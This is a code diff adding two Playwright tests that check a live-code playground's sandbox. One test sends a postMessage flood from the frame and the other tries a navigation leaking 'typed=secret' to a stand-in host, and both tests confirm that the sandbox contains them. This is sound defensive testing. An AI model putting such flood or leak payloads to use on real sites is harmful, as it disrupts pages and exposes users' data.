@@ -67,6 +67,36 @@ test('nothing that it does reaches the page, its storage, or the network', async
   await expect(page).toHaveTitle(/libraries/i);
 });
 
+test('a frame that floods the page with messages is closed, and Reset answers', async ({page}) => {
+  await visit(page, path);
+  const flood = "for (let i = 0; i < 20000; i++) parent.postMessage(i, '*'); setTimeout(flood);";
+  await runCode(page, `() => { const flood = () => { ${flood} }; setTimeout(flood); return <b>x</b>; }`);
+  await expect(exampleOf(page).getByRole('alert')).toContainText('sent too many messages');
+  await expect(exampleOf(page).locator('iframe')).toHaveCount(0);
+  await exampleOf(page)
+    .getByRole('button', {name: /^Reset/})
+    .click();
+  await expect(exampleOf(page).getByRole('alert')).toHaveCount(0);
+});
+
+test('on a host without headers, no other page comes into the frame', async ({page, allow}) => {
+  allow.errors.push(/Content Security Policy|ERR_BLOCKED/);
+  await page.route('**/docs/**', async (route) => {
+    if (route.request().resourceType() !== 'document') return route.fallback();
+    const response = await route.fetch();
+    return route.fulfill({response, headers: {'content-type': 'text/html; charset=utf-8'}});
+  });
+  const asked: string[] = [];
+  await page.route('https://example.org/**', (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  await visit(page, path);
+  await runCode(page, "() => { location.href = 'https://example.org/?typed=secret'; return <b>x</b>; }");
+  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
+  expect(asked).toEqual([]);
+});
+
 test('playgroundPosition places the results of all live code', async ({page}) => {
   const resultIsAbove = () =>
     page
